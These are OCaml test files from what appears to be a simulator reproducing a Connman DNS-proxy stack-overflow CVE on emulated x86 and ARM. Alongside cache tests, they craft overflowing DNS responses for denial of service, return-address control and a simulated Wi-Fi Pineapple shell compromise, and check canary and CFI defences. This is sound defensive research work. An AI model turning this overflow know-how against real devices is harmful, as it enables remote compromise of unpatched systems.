