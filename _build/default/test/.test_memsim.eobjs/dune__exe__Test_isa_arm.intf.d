test/test_isa_arm.mli:
