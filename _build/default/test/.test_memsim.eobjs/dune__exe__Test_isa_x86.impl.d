test/test_isa_x86.ml: Alcotest Asm Char Cpu Decode Encode Gen Insn Isa_x86 List Machine Memsim Option Printf QCheck QCheck_alcotest String
