test/test_isa_x86.mli:
