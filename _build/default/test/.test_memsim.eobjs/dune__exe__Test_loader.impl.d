test/test_loader.ml: Alcotest Arch Asm Defense Isa_arm Isa_x86 Layout List Loader Machine Memsim Process QCheck QCheck_alcotest
