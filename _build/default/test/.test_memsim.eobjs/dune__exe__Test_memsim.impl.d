test/test_memsim.ml: Alcotest Array Fun Gen List Memsim QCheck QCheck_alcotest String
