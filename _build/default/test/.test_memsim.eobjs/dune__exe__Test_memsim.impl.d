test/test_memsim.ml: Alcotest Array Fun Gen List Memsim Printf QCheck QCheck_alcotest String
