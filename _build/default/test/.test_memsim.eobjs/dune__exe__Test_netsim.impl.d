test/test_netsim.ml: Alcotest Char Dns List Netsim Option QCheck QCheck_alcotest Result String
