test/test_netsim.ml: Alcotest Array Bytes Char Dns Gc List Netsim Option Printf QCheck QCheck_alcotest Result String Weak
