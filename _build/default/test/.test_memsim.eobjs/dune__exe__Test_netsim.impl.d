test/test_netsim.ml: Alcotest Bytes Char Dns Gc List Netsim Option QCheck QCheck_alcotest Result String Weak
