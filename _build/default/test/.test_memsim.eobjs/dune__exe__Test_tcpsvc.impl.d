test/test_tcpsvc.ml: Alcotest Autogen Defense Exploit Format List Loader Machine Memsim Netsim Payload String Target Tcpsvc
