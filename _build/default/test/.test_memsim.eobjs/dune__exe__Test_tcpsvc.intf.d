test/test_tcpsvc.mli:
