(* Tests for the TTL-aware DNS cache and its daemon integration. *)

module Cache = Dns.Cache
module Dnsproxy = Connman.Dnsproxy

let check_int = Alcotest.(check int)
let check_bool = Alcotest.(check bool)
let opt_int = Alcotest.(check (option int))

let test_insert_lookup () =
  let c = Cache.create () in
  Cache.insert c ~now:0 ~name:"a.example" ~ttl:60 ~ipv4:0x01020304;
  opt_int "hit" (Some 0x01020304) (Cache.lookup c ~now:10 "a.example");
  opt_int "miss" None (Cache.lookup c ~now:10 "b.example")

let test_ttl_expiry () =
  let c = Cache.create () in
  Cache.insert c ~now:0 ~name:"a.example" ~ttl:60 ~ipv4:1;
  opt_int "fresh at 59" (Some 1) (Cache.lookup c ~now:59 "a.example");
  opt_int "expired at 60" None (Cache.lookup c ~now:60 "a.example");
  (* Expired entries are pruned on lookup. *)
  check_int "size after prune" 0 (Cache.size c ~now:60)

let test_zero_ttl_never_cached () =
  let c = Cache.create () in
  Cache.insert c ~now:0 ~name:"a.example" ~ttl:0 ~ipv4:1;
  opt_int "not cached" None (Cache.lookup c ~now:0 "a.example")

let test_replace_updates () =
  let c = Cache.create () in
  Cache.insert c ~now:0 ~name:"a.example" ~ttl:60 ~ipv4:1;
  Cache.insert c ~now:0 ~name:"a.example" ~ttl:60 ~ipv4:2;
  opt_int "latest wins" (Some 2) (Cache.lookup c ~now:1 "a.example");
  check_int "single entry" 1 (Cache.size c ~now:1)

let test_capacity_eviction () =
  let c = Cache.create ~capacity:4 () in
  for i = 1 to 4 do
    (* Distinct expiries: entry 1 is closest to expiry. *)
    Cache.insert c ~now:0 ~name:(Printf.sprintf "h%d" i) ~ttl:(i * 10) ~ipv4:i
  done;
  Cache.insert c ~now:0 ~name:"h5" ~ttl:100 ~ipv4:5;
  check_int "capacity held" 4 (Cache.size c ~now:0);
  opt_int "soonest-expiry evicted" None (Cache.lookup c ~now:0 "h1");
  opt_int "newest present" (Some 5) (Cache.lookup c ~now:0 "h5");
  check_int "eviction counted" 1 (Cache.stats c).Cache.evictions

let test_stats () =
  let c = Cache.create () in
  Cache.insert c ~now:0 ~name:"a" ~ttl:10 ~ipv4:1;
  ignore (Cache.lookup c ~now:1 "a");
  ignore (Cache.lookup c ~now:1 "b");
  let s = Cache.stats c in
  check_int "hits" 1 s.Cache.hits;
  check_int "misses" 1 s.Cache.misses;
  check_int "insertions" 1 s.Cache.insertions

let test_flush () =
  let c = Cache.create () in
  Cache.insert c ~now:0 ~name:"a" ~ttl:10 ~ipv4:1;
  Cache.flush c;
  check_int "empty" 0 (Cache.size c ~now:0)

let prop_capacity_never_exceeded =
  QCheck.Test.make ~name:"capacity bound holds under churn" ~count:200
    QCheck.(
      make
        Gen.(
          list_size (int_range 1 100)
            (pair (string_size ~gen:(char_range 'a' 'f') (return 3)) (int_range 1 50))))
    (fun inserts ->
      let c = Cache.create ~capacity:8 () in
      List.iteri
        (fun i (name, ttl) -> Cache.insert c ~now:i ~name ~ttl ~ipv4:i)
        inserts;
      Cache.size c ~now:0 <= 8)

let prop_fresh_entries_always_hit =
  QCheck.Test.make ~name:"a fresh insert always hits before expiry" ~count:200
    QCheck.(make Gen.(pair (int_range 1 1000) (int_range 0 2000)))
    (fun (ttl, dt) ->
      let c = Cache.create () in
      Cache.insert c ~now:100 ~name:"x" ~ttl ~ipv4:42;
      let hit = Cache.lookup c ~now:(100 + dt) "x" in
      if dt < ttl then hit = Some 42 else hit = None)

(* --- daemon integration --- *)

let lookup_name = Dns.Name.of_string "ipv4.connman.net"

let test_daemon_ttl_expiry () =
  let d = Dnsproxy.create Dnsproxy.default_config in
  let query = Dnsproxy.make_query d lookup_name in
  let wire =
    Dns.Packet.encode
      (Dns.Packet.response ~query
         [ Dns.Packet.a_record lookup_name ~ttl:30 ~ipv4:0x7F000001 ])
  in
  (match Dnsproxy.handle_response d wire with
  | Dnsproxy.Cached 1 -> ()
  | other -> Alcotest.failf "parse: %a" Dnsproxy.pp_disposition other);
  check_bool "fresh" true (Dnsproxy.cache_lookup d lookup_name = Some 0x7F000001);
  Dnsproxy.tick d 29;
  check_bool "still fresh at 29s" true
    (Dnsproxy.cache_lookup d lookup_name <> None);
  Dnsproxy.tick d 2;
  check_bool "expired at 31s" true (Dnsproxy.cache_lookup d lookup_name = None);
  let s = Dnsproxy.cache_stats d in
  check_bool "stats flow" true (s.Cache.hits >= 2 && s.Cache.misses >= 1)

let () =
  let qt = QCheck_alcotest.to_alcotest in
  Alcotest.run "cache"
    [
      ( "unit",
        [
          Alcotest.test_case "insert/lookup" `Quick test_insert_lookup;
          Alcotest.test_case "ttl expiry" `Quick test_ttl_expiry;
          Alcotest.test_case "zero ttl" `Quick test_zero_ttl_never_cached;
          Alcotest.test_case "replace" `Quick test_replace_updates;
          Alcotest.test_case "capacity eviction" `Quick test_capacity_eviction;
          Alcotest.test_case "stats" `Quick test_stats;
          Alcotest.test_case "flush" `Quick test_flush;
        ] );
      ("properties", [ qt prop_capacity_never_exceeded; qt prop_fresh_entries_always_hit ]);
      ( "daemon integration",
        [ Alcotest.test_case "ttl drives expiry" `Quick test_daemon_ttl_expiry ] );
    ]
