(* Tests for the Connman simulation: versions, the vulnerable machine-code
   parse path on both architectures, and the daemon model. *)

module Mem = Memsim.Memory
module O = Machine.Outcome
open Connman

let check_int = Alcotest.(check int)
let check_bool = Alcotest.(check bool)
let check_string = Alcotest.(check string)

let lookup_name = Dns.Name.of_string "ipv4.connman.net"

let mk ?(version = Version.v1_34) ?(arch = Loader.Arch.X86)
    ?(profile = Defense.Profile.wx) ?(seed = 1) ?diversity_seed () =
  Dnsproxy.create
    { Dnsproxy.version; arch; profile; boot_seed = seed; diversity_seed }

let benign_response query =
  Dns.Packet.encode
    (Dns.Packet.response ~query
       [ Dns.Packet.a_record lookup_name ~ttl:60 ~ipv4:0x5DB8D822 ])

(* --- version catalogue --- *)

let test_versions () =
  check_bool "1.34 vulnerable" true (Version.vulnerable Version.v1_34);
  check_bool "1.30 vulnerable" true (Version.vulnerable Version.v1_30);
  check_bool "1.35 fixed" false (Version.vulnerable Version.v1_35);
  check_string "to_string" "1.34" (Version.to_string Version.v1_34);
  check_bool "of_string" true (Version.of_string "1.31" = Some Version.v1_31);
  check_bool "of_string bad" true (Version.of_string "nope" = None);
  check_int "catalogue size" 6 (List.length Version.all)

(* --- benign flow --- *)

let benign_roundtrip arch =
  let d = mk ~arch () in
  let query = Dnsproxy.make_query d lookup_name in
  match Dnsproxy.handle_response d (benign_response query) with
  | Dnsproxy.Cached n ->
      check_int "one record" 1 n;
      check_bool "cache hit" true
        (Dnsproxy.cache_lookup d lookup_name = Some 0x5DB8D822);
      check_bool "daemon alive" true (Dnsproxy.alive d);
      check_bool "machine actually ran" true (Dnsproxy.last_steps d > 50)
  | other -> Alcotest.failf "expected Cached, got %a" Dnsproxy.pp_disposition other

let test_benign_x86 () = benign_roundtrip Loader.Arch.X86
let test_benign_arm () = benign_roundtrip Loader.Arch.Arm

let test_benign_compressed_answer_name () =
  (* Answer name given as a compression pointer back to the question —
     the normal real-world shape; exercises the pointer-following branch
     of the machine-code get_name. *)
  let d = mk () in
  let query = Dnsproxy.make_query d lookup_name in
  let wire =
    Dns.Packet.encode ~compress:true
      (Dns.Packet.response ~query
         [ Dns.Packet.a_record lookup_name ~ttl:60 ~ipv4:0x01020304 ])
  in
  (* sanity: compression actually produced a pointer *)
  check_bool "has pointer" true (String.contains wire '\xC0');
  match Dnsproxy.handle_response d wire with
  | Dnsproxy.Cached _ -> ()
  | other -> Alcotest.failf "expected Cached, got %a" Dnsproxy.pp_disposition other

let test_aaaa_response_also_reaches_vulnerable_path () =
  (* The paper selects Type A "for its universality" but notes AAAA also
     triggers: the owner-name expansion runs before the record type
     matters. *)
  let d = mk () in
  let query = Dnsproxy.make_query d lookup_name in
  let wire =
    Dns.Craft.hostile_response ~query
      ~raw_name:(Dns.Craft.dos_name ~size:8192)
      ~rdata:(String.make 16 '\x00') ()
  in
  (* Patch the answer type to AAAA (28): answer rtype sits right after the
     raw name within the answer record — rebuild via a manual response
     instead. *)
  ignore wire;
  let aaaa_wire =
    let buf = Buffer.create 256 in
    let u16 v =
      Buffer.add_char buf (Char.chr ((v lsr 8) land 0xFF));
      Buffer.add_char buf (Char.chr (v land 0xFF))
    in
    u16 query.Dns.Packet.header.Dns.Packet.id;
    u16 0x8180;
    u16 1;
    u16 1;
    u16 0;
    u16 0;
    Buffer.add_string buf (Dns.Name.encode lookup_name);
    u16 (Dns.Packet.qtype_code Dns.Packet.A);
    u16 1;
    Buffer.add_string buf (Dns.Craft.dos_name ~size:8192);
    u16 (Dns.Packet.qtype_code Dns.Packet.AAAA);
    u16 1;
    u16 0;
    u16 300;
    u16 16;
    Buffer.add_string buf (String.make 16 '\x00');
    Buffer.contents buf
  in
  match Dnsproxy.handle_response d aaaa_wire with
  | Dnsproxy.Crashed _ -> ()
  | other -> Alcotest.failf "expected crash via AAAA, got %a" Dnsproxy.pp_disposition other

(* --- pre-validation (the paper's "must appear legitimate") --- *)

let test_prevalidation_drops () =
  let d = mk () in
  let query = Dnsproxy.make_query d lookup_name in
  let benign = benign_response query in
  (* Wrong transaction id. *)
  let wrong_id = Bytes.of_string benign in
  Bytes.set wrong_id 0 '\xDE';
  Bytes.set wrong_id 1 '\xAD';
  (match Dnsproxy.handle_response d (Bytes.to_string wrong_id) with
  | Dnsproxy.Dropped _ -> ()
  | other -> Alcotest.failf "id: expected Dropped, got %a" Dnsproxy.pp_disposition other);
  (* Not a response (QR clear). *)
  let not_resp = Bytes.of_string benign in
  Bytes.set not_resp 2 (Char.chr (Char.code benign.[2] land 0x7F));
  (match Dnsproxy.handle_response d (Bytes.to_string not_resp) with
  | Dnsproxy.Dropped _ -> ()
  | other -> Alcotest.failf "qr: expected Dropped, got %a" Dnsproxy.pp_disposition other);
  (* Unsolicited (no pending query recorded). *)
  let other_q = Dns.Packet.query ~id:0xBEEF lookup_name Dns.Packet.A in
  (match Dnsproxy.handle_response d (benign_response other_q) with
  | Dnsproxy.Dropped _ -> ()
  | other ->
      Alcotest.failf "pending: expected Dropped, got %a" Dnsproxy.pp_disposition
        other);
  check_bool "daemon survives all drops" true (Dnsproxy.alive d)

let test_question_mismatch_dropped () =
  let d = mk () in
  let query = Dnsproxy.make_query d lookup_name in
  let evil_q =
    Dns.Packet.query
      ~id:query.Dns.Packet.header.Dns.Packet.id
      (Dns.Name.of_string "evil.example") Dns.Packet.A
  in
  match Dnsproxy.handle_response d (benign_response evil_q) with
  | Dnsproxy.Dropped _ -> ()
  | other -> Alcotest.failf "expected Dropped, got %a" Dnsproxy.pp_disposition other

(* --- the CVE: DoS --- *)

let dos_response d =
  let query = Dnsproxy.make_query d lookup_name in
  Dns.Craft.hostile_response ~query ~raw_name:(Dns.Craft.dos_name ~size:8192) ()

let dos_crashes arch =
  let d = mk ~arch () in
  match Dnsproxy.handle_response d (dos_response d) with
  | Dnsproxy.Crashed (O.Fault f) ->
      check_bool "fault above the stack" true
        (f.Mem.addr >= (Dnsproxy.process d).Loader.Process.layout.Loader.Layout.stack_top);
      check_bool "daemon dead" false (Dnsproxy.alive d);
      (* Subsequent traffic is dropped: the DoS persists. *)
      let q2 = Dns.Packet.query ~id:1 lookup_name Dns.Packet.A in
      (match Dnsproxy.handle_response d (benign_response q2) with
      | Dnsproxy.Dropped _ -> ()
      | other ->
          Alcotest.failf "post-crash: expected Dropped, got %a"
            Dnsproxy.pp_disposition other)
  | other -> Alcotest.failf "expected Crashed, got %a" Dnsproxy.pp_disposition other

let test_dos_x86 () = dos_crashes Loader.Arch.X86
let test_dos_arm () = dos_crashes Loader.Arch.Arm

let test_dos_all_vulnerable_versions () =
  List.iter
    (fun version ->
      let d = mk ~version () in
      let got = Dnsproxy.handle_response d (dos_response d) in
      let crashed = match got with Dnsproxy.Crashed _ -> true | _ -> false in
      check_bool
        (Printf.sprintf "connman %s: %s" (Version.to_string version)
           (if Version.vulnerable version then "crashes" else "survives"))
        (Version.vulnerable version) crashed)
    Version.all

let test_patched_survives_dos () =
  let d = mk ~version:Version.v1_35 () in
  match Dnsproxy.handle_response d (dos_response d) with
  | Dnsproxy.Cached _ ->
      (* get_name bails out with -1; parse_response skips caching the
         machine-side record but returns cleanly.  Host-side cache update
         still runs off the (lenient) wire decode. *)
      check_bool "alive" true (Dnsproxy.alive d)
  | other -> Alcotest.failf "expected survival, got %a" Dnsproxy.pp_disposition other

let test_patched_survives_dos_arm () =
  let d = mk ~version:Version.v1_35 ~arch:Loader.Arch.Arm () in
  ignore (Dnsproxy.handle_response d (dos_response d));
  check_bool "alive" true (Dnsproxy.alive d)

let test_pointer_loop_hangs_vulnerable () =
  let d = mk () in
  let query = Dnsproxy.make_query d lookup_name in
  let wire =
    Dns.Craft.hostile_response ~query ~raw_name:(Dns.Craft.pointer_loop_name ()) ()
  in
  match Dnsproxy.handle_response d wire with
  | Dnsproxy.Crashed O.Fuel_exhausted -> ()
  | other -> Alcotest.failf "expected hang, got %a" Dnsproxy.pp_disposition other

let test_restart_recovers () =
  let d = mk () in
  ignore (Dnsproxy.handle_response d (dos_response d));
  check_bool "dead" false (Dnsproxy.alive d);
  Dnsproxy.restart d;
  check_bool "alive again" true (Dnsproxy.alive d);
  let query = Dnsproxy.make_query d lookup_name in
  match Dnsproxy.handle_response d (benign_response query) with
  | Dnsproxy.Cached _ -> ()
  | other -> Alcotest.failf "expected Cached, got %a" Dnsproxy.pp_disposition other

(* --- frame geometry: the "gdb analysis" must match the machine --- *)

let overflow_spec spec d =
  (* Send a crafted response whose expansion satisfies [spec]; returns the
     disposition and the planned wire name. *)
  let query = Dnsproxy.make_query d lookup_name in
  match Dns.Craft.plan_labels spec with
  | Error e -> Alcotest.fail ("planning: " ^ e)
  | Ok raw_name ->
      ( Dnsproxy.handle_response d (Dns.Craft.hostile_response ~query ~raw_name ()),
        raw_name )

let test_buffer_address_prediction () =
  List.iter
    (fun arch ->
      let d = mk ~arch () in
      let proc = Dnsproxy.process d in
      let predicted = Frame.buffer_addr proc in
      (* A short in-bounds payload; compare the guest buffer at the
         predicted address against the reference expansion. *)
      let disp, raw_name = overflow_spec (Dns.Craft.spec_any 32) d in
      (match disp with
      | Dnsproxy.Cached _ -> ()
      | other ->
          Alcotest.failf "marker parse: %a" Dnsproxy.pp_disposition other);
      let expected =
        match Dns.Name.expand_like_connman raw_name 0 with
        | Ok (stream, _) -> stream
        | Error e -> Alcotest.fail e
      in
      let got =
        Mem.peek_bytes proc.Loader.Process.mem predicted (String.length expected)
      in
      check_string
        (Loader.Arch.name arch ^ ": buffer where gdb said")
        expected got)
    [ Loader.Arch.X86; Loader.Arch.Arm ]

(* Payload skeleton: don't-care filler, NULL words in the parse_rr pointer
   slots, and a fixed word in the return slot. *)
let ret_spec fr ret_bytes =
  Dns.Craft.spec_concat
    [
      Dns.Craft.spec_any fr.Frame.off_null1;
      Dns.Craft.spec_fixed (String.make 8 '\x00');
      Dns.Craft.spec_any (fr.Frame.off_ret - fr.Frame.off_null1 - 8);
      Dns.Craft.spec_fixed ret_bytes;
    ]

let test_overflow_reaches_ret_exactly () =
  (* Put a recognizable address in the return slot: control must transfer
     there (and fault, since it's unmapped). *)
  List.iter
    (fun arch ->
      let d = mk ~arch () in
      let fr = Frame.geometry arch in
      (* 0x0D0A0D0A: unmapped, recognizable, 4-byte aligned... 0x0D0A0D0A
         is not 4-aligned; use 0x0D0A0D0C for ARM pc alignment. *)
      let planted = if arch = Loader.Arch.Arm then 0x0D0A0D0C else 0x0D0A0D0A in
      let ret_bytes =
        String.init 4 (fun i -> Char.chr ((planted lsr (8 * i)) land 0xFF))
      in
      match fst (overflow_spec (ret_spec fr ret_bytes) d) with
      | Dnsproxy.Crashed (O.Fault f) ->
          check_int
            (Loader.Arch.name arch ^ ": pc landed on planted address")
            planted f.Mem.addr
      | other ->
          Alcotest.failf "%s: expected fault at planted pc, got %a"
            (Loader.Arch.name arch) Dnsproxy.pp_disposition other)
    [ Loader.Arch.X86; Loader.Arch.Arm ]

let test_arm_nonnull_ptr_slot_faults_in_parse_rr () =
  (* The §III-A2 obstacle: garbage in the pointer slots makes parse_rr
     dereference it and fault before any hijack.  0xCC can never be a
     label-length byte (>= 0xC0), so the fixed run survives planning
     as-is. *)
  let d = mk ~arch:Loader.Arch.Arm () in
  let fr = Frame.geometry Loader.Arch.Arm in
  let spec =
    Dns.Craft.spec_concat
      [
        Dns.Craft.spec_any fr.Frame.off_null1;
        Dns.Craft.spec_fixed (String.make 8 '\xCC');
        Dns.Craft.spec_any (fr.Frame.off_ret + 4 - fr.Frame.off_null1 - 8);
      ]
  in
  match fst (overflow_spec spec d) with
  | Dnsproxy.Crashed (O.Fault f) ->
      check_int "faulting deref of 0xCCCCCCCC" 0xCCCCCCCC f.Mem.addr
  | other -> Alcotest.failf "expected parse_rr fault, got %a" Dnsproxy.pp_disposition other

let test_guest_buffer_matches_reference_expansion () =
  (* Differential test: the machine-code get_name and the OCaml reference
     expander must agree byte-for-byte on a benign compressed name. *)
  let d = mk () in
  let proc = Dnsproxy.process d in
  let query = Dnsproxy.make_query d lookup_name in
  let wire =
    Dns.Packet.encode ~compress:true
      (Dns.Packet.response ~query
         [ Dns.Packet.a_record lookup_name ~ttl:60 ~ipv4:0x7F000001 ])
  in
  (match Dnsproxy.handle_response d wire with
  | Dnsproxy.Cached _ -> ()
  | other -> Alcotest.failf "parse: %a" Dnsproxy.pp_disposition other);
  let qlen = String.length (Dns.Name.encode lookup_name) in
  let answer_off = 12 + qlen + 4 in
  match Dns.Name.expand_like_connman wire answer_off with
  | Error e -> Alcotest.fail e
  | Ok (expected, _) ->
      let got =
        Mem.peek_bytes proc.Loader.Process.mem (Frame.buffer_addr proc)
          (String.length expected)
      in
      check_string "differential expansion" expected got

let test_guest_cache_store_syncs_bss () =
  (* A successful parse runs cache_store, which memcpy@plt's the first 16
     expanded bytes into the .bss cache slot — verify on both ISAs. *)
  List.iter
    (fun arch ->
      let d = mk ~arch () in
      let proc = Dnsproxy.process d in
      let query = Dnsproxy.make_query d lookup_name in
      let wire =
        Dns.Packet.encode ~compress:false
          (Dns.Packet.response ~query
             [ Dns.Packet.a_record lookup_name ~ttl:60 ~ipv4:1 ])
      in
      (match Dnsproxy.handle_response d wire with
      | Dnsproxy.Cached _ -> ()
      | other -> Alcotest.failf "parse: %a" Dnsproxy.pp_disposition other);
      let bss = Loader.Process.symbol proc "__bss_start" in
      let got = Mem.peek_bytes proc.Loader.Process.mem (bss + 0x200) 16 in
      (* Expansion of "ipv4.connman.net": 04 ipv4 07 connman … *)
      check_string
        (Loader.Arch.name arch ^ ": guest cache holds expansion prefix")
        "\x04ipv4\x07connman\x03ne" got)
    [ Loader.Arch.X86; Loader.Arch.Arm ]

(* --- canary ablation (A3) --- *)

let test_canary_blocks_overflow () =
  List.iter
    (fun arch ->
      let profile = Defense.Profile.(with_canary wx) in
      let d = mk ~arch ~profile () in
      let fr = Frame.geometry arch in
      match fst (overflow_spec (ret_spec fr "\xAA\xAA\xAA\xAA") d) with
      | Dnsproxy.Blocked (O.Aborted _) -> ()
      | other ->
          Alcotest.failf "%s: expected canary abort, got %a"
            (Loader.Arch.name arch) Dnsproxy.pp_disposition other)
    [ Loader.Arch.X86; Loader.Arch.Arm ]

let test_canary_allows_benign () =
  let d = mk ~profile:Defense.Profile.(with_canary wx) () in
  let query = Dnsproxy.make_query d lookup_name in
  match Dnsproxy.handle_response d (benign_response query) with
  | Dnsproxy.Cached _ -> ()
  | other -> Alcotest.failf "expected Cached, got %a" Dnsproxy.pp_disposition other

(* --- diversity changes the image --- *)

let test_diversity_moves_symbols () =
  let base = mk () in
  let div = mk ~diversity_seed:99 () in
  let f = "get_name" in
  check_bool "symbol moved" true
    (Loader.Process.symbol (Dnsproxy.process base) f
    <> Loader.Process.symbol (Dnsproxy.process div) f);
  (* Both still work. *)
  let query = Dnsproxy.make_query div lookup_name in
  match Dnsproxy.handle_response div (benign_response query) with
  | Dnsproxy.Cached _ -> ()
  | other -> Alcotest.failf "diversified build broken: %a" Dnsproxy.pp_disposition other

let prop_benign_names_never_crash =
  QCheck.Test.make ~name:"benign responses never crash the daemon" ~count:60
    QCheck.(
      make
        Gen.(
          list_size (int_range 1 5)
            (string_size ~gen:(char_range 'a' 'z') (int_range 1 30))))
    (fun labels ->
      let d = mk () in
      let qname = labels in
      let query = Dnsproxy.make_query d qname in
      let wire =
        Dns.Packet.encode
          (Dns.Packet.response ~query
             [ Dns.Packet.a_record qname ~ttl:60 ~ipv4:0x0A000001 ])
      in
      match Dnsproxy.handle_response d wire with
      | Dnsproxy.Cached _ -> Dnsproxy.alive d
      | _ -> false)

let () =
  let qt = QCheck_alcotest.to_alcotest in
  Alcotest.run "connman"
    [
      ("versions", [ Alcotest.test_case "catalogue" `Quick test_versions ]);
      ( "benign flow",
        [
          Alcotest.test_case "x86 round-trip" `Quick test_benign_x86;
          Alcotest.test_case "arm round-trip" `Quick test_benign_arm;
          Alcotest.test_case "compressed answer name" `Quick
            test_benign_compressed_answer_name;
          Alcotest.test_case "AAAA reaches the vulnerable path" `Quick
            test_aaaa_response_also_reaches_vulnerable_path;
          qt prop_benign_names_never_crash;
        ] );
      ( "pre-validation",
        [
          Alcotest.test_case "bad packets dropped" `Quick test_prevalidation_drops;
          Alcotest.test_case "question mismatch dropped" `Quick
            test_question_mismatch_dropped;
        ] );
      ( "denial of service",
        [
          Alcotest.test_case "x86 crash" `Quick test_dos_x86;
          Alcotest.test_case "arm crash" `Quick test_dos_arm;
          Alcotest.test_case "all versions" `Quick test_dos_all_vulnerable_versions;
          Alcotest.test_case "1.35 survives (x86)" `Quick test_patched_survives_dos;
          Alcotest.test_case "1.35 survives (arm)" `Quick
            test_patched_survives_dos_arm;
          Alcotest.test_case "pointer loop hangs" `Quick
            test_pointer_loop_hangs_vulnerable;
          Alcotest.test_case "restart recovers" `Quick test_restart_recovers;
        ] );
      ( "frame geometry",
        [
          Alcotest.test_case "buffer address prediction" `Quick
            test_buffer_address_prediction;
          Alcotest.test_case "overflow reaches ret exactly" `Quick
            test_overflow_reaches_ret_exactly;
          Alcotest.test_case "ARM ptr slots fault in parse_rr" `Quick
            test_arm_nonnull_ptr_slot_faults_in_parse_rr;
          Alcotest.test_case "guest/reference differential" `Quick
            test_guest_buffer_matches_reference_expansion;
          Alcotest.test_case "guest cache_store syncs .bss" `Quick
            test_guest_cache_store_syncs_bss;
        ] );
      ( "defenses",
        [
          Alcotest.test_case "canary blocks overflow" `Quick
            test_canary_blocks_overflow;
          Alcotest.test_case "canary allows benign" `Quick test_canary_allows_benign;
          Alcotest.test_case "diversity moves symbols" `Quick
            test_diversity_moves_symbols;
        ] );
    ]
