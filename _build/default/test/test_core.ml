(* Tests for the core library: firmware catalogue, networked devices, the
   Pineapple scenario, and the experiment runner. *)

module W = Netsim.World
module Ip = Netsim.Ip
module Dnsproxy = Connman.Dnsproxy
open Core

let check_int = Alcotest.(check int)
let check_bool = Alcotest.(check bool)
let check_string = Alcotest.(check string)

(* --- firmware --- *)

let test_firmware_catalog () =
  check_bool "non-empty" true (List.length Firmware.catalog >= 6);
  (match Firmware.find "openelec-8" with
  | Some fw ->
      check_bool "openelec vulnerable" true (Firmware.vulnerable fw);
      check_string "ships 1.34" "1.34" (Connman.Version.to_string fw.Firmware.connman)
  | None -> Alcotest.fail "openelec missing");
  (match Firmware.find "tizen-4" with
  | Some fw -> check_bool "tizen 4 patched" false (Firmware.vulnerable fw)
  | None -> Alcotest.fail "tizen-4 missing");
  check_bool "unknown" true (Firmware.find "nope" = None);
  (* Every catalogue entry boots. *)
  List.iter
    (fun fw ->
      let d = Dnsproxy.create (Firmware.to_config fw) in
      check_bool (fw.Firmware.name ^ " boots") true (Dnsproxy.alive d))
    Firmware.catalog

(* --- device on the network --- *)

let home_setup () =
  let w = W.create () in
  let lan = W.add_lan w ~name:"home" in
  let router = W.add_host w ~name:"router" in
  W.set_host_ip router (Some (Ip.of_string "192.168.1.1"));
  W.attach router lan;
  Netsim.Dhcp.serve w router ~first_ip:(Ip.of_string "192.168.1.100")
    ~dns:(Ip.of_string "192.168.1.1");
  Netsim.Dns_server.resolver w router
    ~zone:[ ("ipv4.connman.net", Ip.of_string "93.184.216.34") ];
  let ap = Netsim.Wifi.ap ~name:"home-ap" ~ssid:"HomeWiFi" ~signal_dbm:(-55) lan in
  (w, ap)

let test_device_joins_and_checks_connectivity () =
  let w, ap = home_setup () in
  let device =
    Device.create w ~name:"tv"
      ~config:
        {
          Dnsproxy.version = Connman.Version.v1_34;
          arch = Loader.Arch.Arm;
          profile = Defense.Profile.wx;
          boot_seed = 3;
          diversity_seed = None;
        }
  in
  (match Device.join_wifi device [ ap ] ~ssid:"HomeWiFi" with
  | Some chosen -> check_string "ap" "home-ap" chosen.Netsim.Wifi.ap_name
  | None -> Alcotest.fail "no ap");
  ignore (W.run w);
  check_bool "got lease" true (W.host_ip (Device.host device) <> None);
  (match Device.last_disposition device with
  | Some (Dnsproxy.Cached n) -> check_int "connectivity cached" 1 n
  | other ->
      Alcotest.failf "expected Cached, got %s"
        (match other with
        | Some d -> Format.asprintf "%a" Dnsproxy.pp_disposition d
        | None -> "nothing"));
  check_bool "online" true (Device.state device = `Online);
  check_bool "device kept a log" true (List.length (Device.events device) >= 3)

let test_device_lookup_without_dns_is_noop () =
  let w, _ = home_setup () in
  let device =
    Device.create w ~name:"tv" ~config:Dnsproxy.default_config
  in
  Device.lookup device "example.com";
  ignore (W.run w);
  check_bool "no crash, no disposition" true (Device.last_disposition device = None)

(* --- the Pineapple scenario --- *)

let arm_config profile =
  {
    Dnsproxy.version = Connman.Version.v1_34;
    arch = Loader.Arch.Arm;
    profile;
    boot_seed = 21;
    diversity_seed = None;
  }

let test_pineapple_full_chain () =
  match Scenario.pineapple_attack ~config:(arm_config Defense.Profile.wx_aslr) () with
  | Error e -> Alcotest.fail e
  | Ok r ->
      check_string "starts at home" "home" r.Scenario.associated_before;
      check_string "hijacked to pineapple" "pineapple" r.Scenario.associated_after;
      (match r.Scenario.benign_disposition with
      | Some (Dnsproxy.Cached _) -> ()
      | _ -> Alcotest.fail "benign lookup should have been cached");
      check_bool "dns server switched" true
        (r.Scenario.dns_before <> r.Scenario.dns_after);
      Alcotest.(check (option string))
        "attacker dns"
        (Some "172.16.42.1")
        (Option.map Ip.to_string r.Scenario.dns_after);
      check_bool "at least one interception" true (r.Scenario.queries_intercepted >= 1);
      (match r.Scenario.attack_disposition with
      | Some (Dnsproxy.Compromised reason) ->
          check_bool "shell" true (Machine.Outcome.is_shell reason)
      | other ->
          Alcotest.failf "expected compromise, got %s"
            (match other with
            | Some d -> Format.asprintf "%a" Dnsproxy.pp_disposition d
            | None -> "nothing"));
      check_bool "device state" true (Device.state r.Scenario.device = `Compromised)

let test_pineapple_patched_firmware_survives () =
  let config = { (arm_config Defense.Profile.wx_aslr) with Dnsproxy.version = Connman.Version.v1_35 } in
  match Scenario.pineapple_attack ~config () with
  | Error e -> Alcotest.fail e
  | Ok r -> (
      check_string "still hijacked (network level)" "pineapple"
        r.Scenario.associated_after;
      match r.Scenario.attack_disposition with
      | Some (Dnsproxy.Cached _) ->
          check_bool "device fine" true (Device.state r.Scenario.device = `Online)
      | other ->
          Alcotest.failf "patched device should parse safely, got %s"
            (match other with
            | Some d -> Format.asprintf "%a" Dnsproxy.pp_disposition d
            | None -> "nothing"))

let test_pineapple_cfi_blocks () =
  let config = arm_config Defense.Profile.(with_cfi wx_aslr) in
  match Scenario.pineapple_attack ~config () with
  | Error e -> Alcotest.fail e
  | Ok r -> (
      match r.Scenario.attack_disposition with
      | Some (Dnsproxy.Blocked _) ->
          check_bool "blocked state" true (Device.state r.Scenario.device = `Blocked)
      | other ->
          Alcotest.failf "expected Blocked, got %s"
            (match other with
            | Some d -> Format.asprintf "%a" Dnsproxy.pp_disposition d
            | None -> "nothing"))

let test_pineapple_dos_strategy () =
